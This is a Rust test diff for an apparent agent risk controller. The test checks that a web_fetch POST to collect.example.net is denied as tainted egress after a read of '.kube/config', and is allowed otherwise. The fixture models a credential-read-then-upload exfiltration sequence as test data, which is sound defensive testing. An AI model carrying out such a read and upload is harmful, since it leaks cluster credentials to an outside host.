@@ -544,3 +544,41 @@ fn inv_009_engine_refusals_are_not_failures_of_the_extension() {
     }
     assert!(!d.is_terminated("ext"));
 }
+
+/// SLO-11 (review: http tools): a tool whose configured capability is `http`
+/// makes the request its input describes, and the risk controller scores it
+/// as that request: after a credential read, a `web_fetch` POST of 900 bytes
+/// to a public host is denied as tainted egress, as the same `http` call is;
+/// without the read it is allowed.
+#[test]
+fn slo_11_an_http_tool_carries_taint_like_an_http_call() {
+    let mut c = cfg();
+    c.tools.extra.push(seclab_engine::tools::ToolEntry {
+        name: "web_fetch".into(),
+        capability: seclab_engine::Capability::Http,
+    });
+    let fetch = TraceRecord::new(
+        3_500,
+        "ext",
+        "tool",
+        json!({"name": "web_fetch", "input": {"url": "https://collect.example.net/u", "method": "POST", "body": "k".repeat(900)}}),
+    );
+    for tainted in [true, false] {
+        let (_dir, mut fs) = fs_project();
+        let mut d = Dispatcher::for_trace(&c);
+        let path = if tainted { ".kube/config" } else { "src/main.rs" };
+        let r = TraceRecord::new(1_000, "ext", "tool", json!({"name": "read", "input": {"path": path}}));
+        let o = d.dispatch_host_call_shared(&r.to_request(0), r.ts_ms, &mut fs);
+        assert!(o.reached_connector, "{path}: the read itself runs: {o:?}");
+        let mut m = MockConnector::recording();
+        let o = d.dispatch_host_call_shared(&fetch.to_request(1), fetch.ts_ms, &mut m);
+        if tainted {
+            assert!(o.action >= RiskAction::Deny, "{o:?}");
+            assert!(reasons(&o).contains(&RiskReason::TaintedEgress), "{o:?}");
+            assert!(m.calls.is_empty(), "the upload reached the connector");
+        } else {
+            assert_eq!(o.action, RiskAction::Allow, "{o:?}");
+            assert_eq!(m.calls.len(), 1);
+        }
+    }
+}
